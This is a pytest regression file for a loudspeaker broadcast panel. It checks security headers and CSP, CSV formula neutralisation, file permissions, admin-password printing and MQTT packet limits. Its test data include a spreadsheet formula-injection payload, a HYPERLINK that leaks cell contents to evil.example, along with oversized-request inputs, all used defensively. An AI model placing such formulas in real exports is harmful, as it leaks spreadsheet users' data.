"""A panel that holds up to a hostile internet (issue 13): findings of an outside probe, each with its regression.

1. security headers on every response (CSP without inline script or style), no versions in ``Server`` — also on
   a real server started the way ``serve`` starts it, and in real Chromium: no CSP violation on any page;
2. CSV exports neutralise spreadsheet formulas (``=HYPERLINK(…)`` in a name or title), the registry round trip
   still changes nothing;
3. secrets at rest: data dir 0700, database and key files 0600, created so and tightened at start;
4. the admin password is printed only when the admin is created;
5. the broker the panel configures refuses packets above the protocol's size (a real Mosquitto).
"""

from __future__ import annotations

import csv
import io
import os
import re
import socket
import stat
import struct
import threading
import time
import zlib
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import pytest
import requests
from conftest import ADMIN, require_mosquitto
from test_broker_auth import Client, Deployment, require_clients, wait_until

from broadcaster import fleet
from broadcaster.app import create_app, runtime
from broadcaster.broker import free_port, port_open
from broadcaster.brokerconf import MAX_PACKET_BYTES, write_broker_config
from broadcaster.cli import bootstrap_admin, print_admin_login, serve_http
from broadcaster.config import TestConfig
from broadcaster.csvsafe import credentials_csv, csv_cell, csv_uncell
from broadcaster.keys import write_private
from broadcaster.web.security import content_security_policy, make_panel_server, tile_origin
from devices.protocol import MAX_PAYLOAD_BYTES

ROOT = Path(__file__).resolve().parents[1]
TEMPLATES = ROOT / "broadcaster" / "templates"
EVIL = '=HYPERLINK("http://evil.example/?leak="&A1,"Bấm vào đây")'


def mode(path: Path) -> int:
    return stat.S_IMODE(path.stat().st_mode)


def login(client) -> None:
    page = client.get("/login").text
    token = re.search(r'name="csrf_token" value="([^"]+)"', page).group(1)
    r = client.post("/login", data={"username": ADMIN[0], "password": ADMIN[1], "csrf_token": token})
    assert r.status_code == 302


# ================================================================================== 1. security headers
def csp_directives(value: str) -> dict[str, list[str]]:
    out = {}
    for part in value.split(";"):
        name, *sources = part.split()
        out[name] = sources
    return out


def assert_secure_headers(response, what: str) -> None:
    h = response.headers
    assert h.get("X-Content-Type-Options") == "nosniff", what
    assert h.get("X-Frame-Options") == "DENY", what
    assert h.get("Referrer-Policy") in ("same-origin", "strict-origin-when-cross-origin"), what
    csp = csp_directives(h.get("Content-Security-Policy", ""))
    assert csp.get("script-src") == ["'self'"], (what, csp)  # no 'unsafe-inline', no 'unsafe-eval'
    assert csp.get("style-src") == ["'self'"], (what, csp)   # inline styles moved to static/*.css too
    assert csp.get("default-src") == ["'self'"]
    assert csp.get("object-src") == ["'none'"] and csp.get("base-uri") == ["'self'"]
    assert csp.get("frame-ancestors") == ["'none'"] and csp.get("form-action") == ["'self'"]
    assert not any("unsafe" in s for sources in csp.values() for s in sources), csp


def test_every_kind_of_response_carries_the_security_headers(app, client, service):
    anonymous = {"login page": client.get("/login"), "redirect to login": client.get("/"),
                 "static css": client.get("/static/app.css"), "static js": client.get("/static/app.js"),
                 "leaflet": client.get("/static/leaflet/leaflet.js"), "404": client.get("/no-such-page"),
                 "api 401": client.get("/api/v1/nodes"), "media 401": client.get(f"/media/{'0' * 64}.mp3")}
    assert anonymous["static js"].status_code == 200 and anonymous["404"].status_code == 404
    token = client.post("/api/v1/auth/token", json={"username": ADMIN[0], "password": ADMIN[1]}).json["token"]
    api = {"api json": client.get("/api/v1/nodes", headers={"Authorization": f"Bearer {token}"}),
           "api 404": client.get("/api/v1/nodes/nope", headers={"Authorization": f"Bearer {token}"})}
    login(client)
    media = service.media.put(b"ID3 not really audio")
    pages = {"dashboard": client.get("/"), "fleet map": client.get("/fleet/map"),
             "media": client.get(f"/media/{media.sha256}.mp3"), "csv": client.get("/fleet/export.csv")}
    assert pages["media"].status_code == 200 and pages["dashboard"].status_code == 200
    for what, response in {**anonymous, **api, **pages}.items():
        assert_secure_headers(response, what)


def test_img_src_allows_the_map_tiles_and_nothing_else(tmp_path):
    assert tile_origin("https://tile.openstreetmap.org/{z}/{x}/{y}.png") == "https://tile.openstreetmap.org"
    assert tile_origin("https://{s}.tile.example.vn:8443/{z}/{x}/{y}.png") == "https://*.tile.example.vn:8443"
    assert tile_origin("/tiles/{z}/{x}/{y}.png") is None  # on the panel: 'self'
    assert tile_origin("") is None and tile_origin("https://evil'; script-src *") is None
    assert csp_directives(content_security_policy(""))["img-src"] == ["'self'"]
    app = create_app(TestConfig(tmp_path / "panel", MAP_TILES_URL="http://127.0.0.1:8090/{z}/{x}/{y}.png"))
    csp = csp_directives(app.test_client().get("/login").headers["Content-Security-Policy"])
    assert csp["img-src"] == ["'self'", "http://127.0.0.1:8090"]


def test_templates_have_no_inline_script_style_or_event_handlers():
    bad = []
    for path in sorted(TEMPLATES.glob("*.html")):
        text = path.read_text(encoding="utf-8")
        for tag in re.findall(r"<script\b[^>]*>", text):
            if "src=" not in tag and 'type="application/json"' not in tag:
                bad.append(f"{path.name}: inline {tag}")
        bad += [f"{path.name}: {m}" for m in re.findall(r"\son[a-z]+\s*=", text)]
        bad += [f"{path.name}: {m}" for m in re.findall(r"\sstyle\s*=|<style\b|javascript:", text)]
    assert bad == []


def test_the_served_panel_names_no_versions(app):
    """``serve`` / ``demo`` serve through cli.serve_http: the real server, its own error answers included."""

    port, stop = free_port(), threading.Event()
    thread = threading.Thread(target=serve_http, args=(app, "127.0.0.1", port, stop), daemon=True)
    thread.start()
    try:
        deadline = time.monotonic() + 10
        while not port_open("127.0.0.1", port) and time.monotonic() < deadline:
            time.sleep(0.02)
        for path in ("/login", "/static/app.css", "/api/v1/nodes", "/nope"):
            r = requests.get(f"http://127.0.0.1:{port}{path}", timeout=10)
            assert r.headers["Server"] == "Loa Phuong", (path, r.headers)
            assert_secure_headers(r, path)
        # a request werkzeug refuses itself, before the app sees it
        with socket.create_connection(("127.0.0.1", port), timeout=10) as sock:
            sock.sendall(b"GET / HTTP/1.1\r\nX-Junk: " + b"a" * 70_000 + b"\r\n\r\n")  # a header line too long
            answer = sock.recv(65536).decode("latin-1")
        assert re.match(r"HTTP/1\.[01] 431 ", answer) and "Server: Loa Phuong\r\n" in answer, answer
        assert "Werkzeug" not in answer and "Python" not in answer
    finally:
        stop.set()
        thread.join(10)
    assert not thread.is_alive()  # serve_http shut the server down and closed it


# ------------------------------------------------------------------------------------------- Chromium
def _png() -> bytes:
    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    return (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", 1, 1, 8, 2, 0, 0, 0))
            + chunk(b"IDAT", zlib.compress(b"\x00\xe8\xee\xf3")) + chunk(b"IEND", b""))


class TileServer:
    """A local tile server (the sandbox has no internet): every path is a 1×1 PNG; counts what it served."""

    def __init__(self) -> None:
        png, served = _png(), []

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self) -> None:  # noqa: N802
                served.append(self.path)
                self.send_response(200)
                self.send_header("Content-Type", "image/png")
                self.send_header("Content-Length", str(len(png)))
                self.end_headers()
                self.wfile.write(png)

            def log_message(self, *args: object) -> None:
                pass

        self.served = served
        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.url = f"http://127.0.0.1:{self.server.server_address[1]}/{{z}}/{{x}}/{{y}}.png"
        threading.Thread(target=self.server.serve_forever, daemon=True).start()

    def stop(self) -> None:
        self.server.shutdown()
        self.server.server_close()


@pytest.fixture
def live_panel(tmp_path):
    """A panel with some of everything (zones, a node with GPS, an announcement, an alert), served over HTTP by
    the server ``serve`` uses, its map tiles from a local tile server."""

    tiles = TileServer()
    app = create_app(TestConfig(tmp_path / "panel", MAP_TILES_URL=tiles.url))
    service = runtime(app).service
    service.create_user(*ADMIN, role="admin")
    client = app.test_client()
    token = client.post("/api/v1/auth/token", json={"username": ADMIN[0], "password": ADMIN[1]}).json["token"]
    headers = {"Authorization": f"Bearer {token}"}
    for code in ("to-1", "to-2"):
        assert client.post("/api/v1/zones", json={"code": code, "name": f"Tổ {code}"}, headers=headers).status_code \
            == 201
    r = client.post("/api/v1/fleet/registry.csv", headers=headers, content_type="text/csv",
                    data="node_id,name,zone,lat,lon\nloa-01,Loa một,to-1,10.7769,106.7009\nloa-02,Loa hai,to-2,,\n")
    assert r.status_code == 201, r.json
    ann = client.post("/api/v1/announcements", headers=headers,
                      json={"title": "Tiêm phòng", "text": "Sáng thứ bảy tiêm phòng tại trạm y tế."})
    assert ann.status_code == 201, ann.json
    alert = client.post("/api/v1/emergencies", headers=headers,
                        json={"title": "Bão số 3", "text": "Bão sắp đổ bộ.", "zones": ["to-1"]})
    assert alert.status_code in (201, 202), alert.json
    server = make_panel_server("127.0.0.1", free_port(), app)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    base = f"http://127.0.0.1:{server.server_address[1]}"
    yield {"base": base, "announcement": ann.json["id"], "alert": alert.json["id"], "tiles": tiles}
    server.shutdown()
    server.server_close()
    tiles.stop()
    runtime(app).db.dispose()


def test_every_page_runs_in_chromium_without_a_csp_violation(live_panel, chromium):
    """(The run's one Chromium, tests/conftest.py: a second Playwright in the same process cannot start.)"""
    base = live_panel["base"]
    pages = ["/", "/announcements", "/announcements/new", "/announcements/upload",
             f"/announcements/{live_panel['announcement']}", f"/announcements/{live_panel['announcement']}/edit",
             "/approvals", "/schedules", "/schedules/new", "/timeline?zone=to-1", "/nodes", "/nodes/loa-01",
             "/fleet", "/fleet/map", "/fleet/import", "/fleet/nodes/loa-01", "/plays", "/reports", "/audit",
             "/abbreviations", "/audio-settings", "/stream-sources", "/users", "/account/password", "/emergency",
             f"/emergency/{live_panel['alert']}", "/?lang=en"]
    with chromium.new_context() as context:
        browser = context  # a fresh context of the shared browser; closing it closes its pages
        try:
            page = browser.new_page()
            problems: list[str] = []
            page.on("console", lambda m: problems.append(f"console {m.type}: {m.text}")
                    if m.type == "error" and ("Content Security Policy" in m.text or "Refused" in m.text) else None)
            page.on("pageerror", lambda e: problems.append(f"script error: {e}"))
            # also the violations the browser reports as events (init scripts are not subject to the page's CSP)
            page.add_init_script("window.__csp = []; document.addEventListener('securitypolicyviolation', "
                                 "function (e) { window.__csp.push(e.violatedDirective + ' ' + e.blockedURI); });")

            def visit(path: str) -> None:
                response = page.goto(base + path, wait_until="load")
                assert response is not None and response.status == 200, (path, response and response.status)
                assert "script-src 'self'" in response.headers["content-security-policy"]
                page.wait_for_timeout(50)
                problems.extend(f"{path}: {v}" for v in page.evaluate("window.__csp"))

            visit("/login")
            page.fill("input[name=username]", ADMIN[0])
            page.fill("input[name=password]", ADMIN[1])
            page.click("form button")
            page.wait_for_url(base + "/")
            for path in pages:
                visit(path)
            assert problems == []
            visit("/?lang=vi")  # back to Vietnamese (the session keeps the language)

            # the behaviours that moved from inline script to static/*.js still work
            visit("/fleet/map")  # Leaflet, the marker from the JSON island, tiles from the allowed tile server
            assert page.evaluate("window.loaphuongMap.count") == 1
            page.wait_for_function("document.querySelectorAll('img.leaflet-tile-loaded').length > 0")
            assert live_panel["tiles"].served
            visit("/timeline?zone=to-1")  # data-autosubmit
            page.select_option("select[name=zone]", "to-2")
            page.wait_for_url(re.compile(r".*zone=to-2.*"))
            visit("/nodes/loa-01")  # data-confirm: "Cancel" keeps the node and its token
            asked: list[str] = []
            page.once("dialog", lambda d: (asked.append(d.message), d.dismiss()))
            page.click("form[data-confirm] button.danger")
            page.wait_for_timeout(300)
            assert asked and "Xóa loa này?" in asked[0] and page.url == base + "/nodes/loa-01"
            visit("/emergency")  # live / drill switch, "all zones" disables the zone boxes
            page.check("input[name=mode][value=drill]")
            assert "is-drill" in page.get_attribute("#em-form", "class")
            page.check("#em-all")
            assert page.is_disabled(".em-zone >> nth=0")
            visit(f"/emergency/{live_panel['alert']}")  # delivery status polled every second
            with page.expect_response(lambda r: r.url.endswith("/status") and r.status == 200, timeout=5000):
                pass
            visit("/announcements/upload")  # the in-browser recorder is offered where MediaRecorder exists
            assert page.is_visible(".recorder [data-record]")
            assert problems == []
        finally:
            browser.close()


# ================================================================================================ 2. CSV
@pytest.mark.parametrize(("cell", "expected"), [
    ("=1+1", "'=1+1"), ("+1", "'+1"), ("-1", "'-1"), ("@SUM(A1)", "'@SUM(A1)"), ("\tx", "'\tx"), ("\r=x", "'\r=x"),
    ("  =HYPERLINK()", "'  =HYPERLINK()"), ("\n=1", "'\n=1"), ("Tổ 3", "Tổ 3"), ("a=b", "a=b"), ("", ""),
    (-7.5, -7.5), (-3, -3), (None, None), ("'quoted", "'quoted"),
])
def test_csv_cell_neutralises_formulas_and_leaves_numbers(cell, expected):
    assert csv_cell(cell) == expected
    if isinstance(cell, str):
        assert csv_uncell(csv_cell(cell)) == cell


def read_csv(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text.lstrip("\ufeff"), newline="")))


def test_registry_export_neutralises_formulas_and_reimports_unchanged(api, service):
    assert api.post("/api/v1/zones", json={"code": "to-1", "name": "Tổ 1"}).status_code == 201
    body = ("node_id,name,zone,lat,lon,address,hardware\n"
            f'loa-01,"{EVIL.replace(chr(34), chr(34) * 2)}",to-1,-7.5,106.7,+84 28 1234,@SUM(A1:A9)\n')
    assert api.post("/api/v1/fleet/registry.csv", data=body.encode(), content_type="text/csv").status_code == 201
    assert service.get_node("loa-01").name == EVIL
    exported = api.get("/api/v1/fleet/registry.csv").data.decode("utf-8")
    row = read_csv(exported)[0]
    assert row["name"] == "'" + EVIL and row["address"] == "'+84 28 1234" and row["hardware"] == "'@SUM(A1:A9)"
    assert row["lat"] == "-7.5" and row["lon"] == "106.7"  # numbers stay numbers
    again = api.post("/api/v1/fleet/registry.csv", data=exported.encode("utf-8"), content_type="text/csv")
    assert again.status_code == 201 and again.json["unchanged"] == ["loa-01"], again.json
    node = service.get_node("loa-01")
    assert node.name == EVIL and node.address == "+84 28 1234" and node.lat == -7.5


def test_web_export_is_the_same_neutralised_csv(client, api, service):
    assert api.post("/api/v1/zones", json={"code": "to-1", "name": "Tổ 1"}).status_code == 201
    service.register_node("loa-01", EVIL, "to-1")
    login(client)
    assert read_csv(client.get("/fleet/export.csv").data.decode("utf-8"))[0]["name"] == "'" + EVIL


def test_report_csvs_neutralise_titles_and_names():
    row = dict.fromkeys(fleet.REPORT_CSV_COLUMNS, 0)
    row.update(day="2026-11-22", zone="to-1", zone_name="@Tổ 1", schedule_id=7, title=EVIL, compliance=None)
    report = {"rows": [row], "planned": 3, "played": 2, "compliance": 66.7}
    got = read_csv(fleet.compliance_csv(report))
    assert got[0]["title"] == "'" + EVIL and got[0]["zone_name"] == "'@Tổ 1" and got[0]["schedule_id"] == "7"
    assert got[1]["day"] == "total" and got[1]["compliance"] == "66.7"

    stats = dict.fromkeys(fleet.MONTHLY_CSV_COLUMNS, 0) | {"month": "2026-11", "success_rate": None, "minutes": -0.5}
    got = read_csv(fleet.monthly_csv(stats))
    assert got[0]["month"] == "2026-11" and got[0]["minutes"] == "-0.5" and got[0]["success_rate"] == ""

    ward = dict.fromkeys(fleet.PROVINCE_CSV_COLUMNS[1:], 1) | {"ward": "-xa", "ward_name": EVIL}
    total = dict.fromkeys(fleet.PROVINCE_CSV_COLUMNS[3:], 1) | {"success_rate": None}
    got = read_csv(fleet.province_csv({"month": "2026-11", "wards": [ward], "total": total}))
    assert got[0]["ward_name"] == "'" + EVIL and got[0]["ward"] == "'-xa" and got[1]["ward"] == "total"


def test_credentials_csv_neutralises_ids_and_keeps_tokens_exact():
    text = credentials_csv({"loa-01": "-Zx9_token", "=evil": "abc"})
    rows = read_csv(text)
    assert rows == [{"node_id": "loa-01", "token": "-Zx9_token"}, {"node_id": "'=evil", "token": "abc"}]
    assert text.startswith("node_id,token\r\n")


# ====================================================================================== 3. secrets at rest
def test_data_dir_database_and_keys_are_private_and_tightened_at_start(tmp_path):
    old = os.umask(0o022)
    try:
        data = tmp_path / "panel"
        config = TestConfig(data, SECRET_KEY=None)
        app = create_app(config)
        runtime(app).service.create_user("lan", "password-123", role="officer")  # the database is written
        secrets = [data / "loaphuong.db", data / "panel-ed25519.key", data / "secret_key"]
        assert mode(data) == 0o700
        for path in secrets + [p for p in data.glob("loaphuong.db-*")]:
            assert mode(path) == 0o600, (path, oct(mode(path)))
        assert (data / "loaphuong.db-wal").exists()  # WAL mode: SQLite gave it the database's mode
        runtime(app).db.dispose()
        # an older installation, a copy or a restore left them readable: the next start tightens them
        data.chmod(0o755)
        for path in secrets:
            path.chmod(0o644)
        app = create_app(TestConfig(data, SECRET_KEY=None))
        assert mode(data) == 0o700 and all(mode(p) == 0o600 for p in secrets)
        runtime(app).db.dispose()
    finally:
        os.umask(old)


def test_admin_password_is_printed_only_when_the_admin_is_created(service, tmp_path, monkeypatch, capsys):
    monkeypatch.setattr(service.config, "ADMIN_USER", "quan-tri")  # LOAPHUONG_ADMIN_USER
    monkeypatch.setattr(service.config, "ADMIN_PASSWORD", None)
    user, password = bootstrap_admin(service, tmp_path)
    assert password and service.authenticate(user, password) is not None
    print_admin_login(user, password, tmp_path)
    first = capsys.readouterr().out
    assert password in first and "quan-tri" in first
    pw_file = tmp_path / "admin-password.txt"
    assert pw_file.read_text().strip() == password and mode(pw_file) == 0o600
    user, again = bootstrap_admin(service, tmp_path)  # every later start
    assert again is None
    print_admin_login(user, again, tmp_path)
    later = capsys.readouterr().out
    assert password not in later and "quan-tri" in later and "admin-password.txt" in later


def test_demo_credentials_file_is_private(tmp_path, monkeypatch):
    """What `loaphuong demo` writes (the simulated nodes' tokens) is 0600 from the start."""

    old = os.umask(0o000)
    try:
        path = tmp_path / "sim" / "credentials.json"
        write_private(path, '{"loa-01": "token"}')
        assert mode(path) == 0o600
        path.chmod(0o666)
        write_private(path, '{"loa-01": "token2"}')
        assert mode(path) == 0o600 and "token2" in path.read_text()
    finally:
        os.umask(old)


# ============================================================================================= 5. broker
def test_generated_broker_configs_limit_the_packet_size(service, tmp_path):

    require_mosquitto()
    assert MAX_PAYLOAD_BYTES < MAX_PACKET_BYTES <= MAX_PAYLOAD_BYTES + 8192
    files = write_broker_config(service, tmp_path / "out", port=free_port())
    assert f"\nmax_packet_size {MAX_PACKET_BYTES}\n" in files.conf.read_text()
    assert mode(files.dynsec) == 0o600 and mode(files.panel_env) == 0o600


@pytest.fixture
def secured(tmp_path, request):
    """The panel's broker, embedded (serve/demo) or external (broker-config), with node n1 registered."""

    require_clients()
    d = Deployment(request.param, tmp_path)
    d.service.create_zone("to-1", "Tổ 1")
    if request.param == "external":
        d.token = d.service.register_node("n1", zone="to-1")[1]
        d.provision_external()
        d.start_panel()
    else:
        d.start_panel()
        d.token = d.service.register_node("n1", zone="to-1")[1]
    yield d
    d.stop()


@pytest.mark.mosquitto
@pytest.mark.parametrize("secured", ["embedded", "external"], indirect=True)
def test_broker_disconnects_a_node_sending_an_oversized_packet(secured):

    d = secured
    if d.kind == "embedded":
        assert f"max_packet_size {MAX_PACKET_BYTES}" in (d.rt.broker.data_dir / "mosquitto.conf").read_text()
        assert mode(d.rt.broker.data_dir / "dynamic-security.json") == 0o600
    topic = d.topics.events("n1")
    watcher = Client(d.port, *d.panel_login, client_id="test-observer", subscribe=[topic])
    node = Client(d.port, "n1", d.token)
    try:
        assert watcher.ok and node.ok, (watcher.rc, node.rc)
        time.sleep(0.3)
        largest = b"{" + b" " * (MAX_PAYLOAD_BYTES - 2) + b"}"  # the biggest legitimate message goes through
        node.client.publish(topic, largest, qos=1).wait_for_publish(5)
        assert wait_until(lambda: any(len(m[1]) == MAX_PAYLOAD_BYTES for m in watcher.messages), 5)
        node.client.publish(topic, b"x" * (MAX_PACKET_BYTES + 1), qos=1)
        assert node.disconnected.wait(5), "the broker kept a node that sent an oversized packet"
        time.sleep(0.3)
        assert all(len(m[1]) <= MAX_PAYLOAD_BYTES for m in watcher.messages)
        assert watcher.ok  # only the offender is disconnected
    finally:
        node.stop()
        watcher.stop()
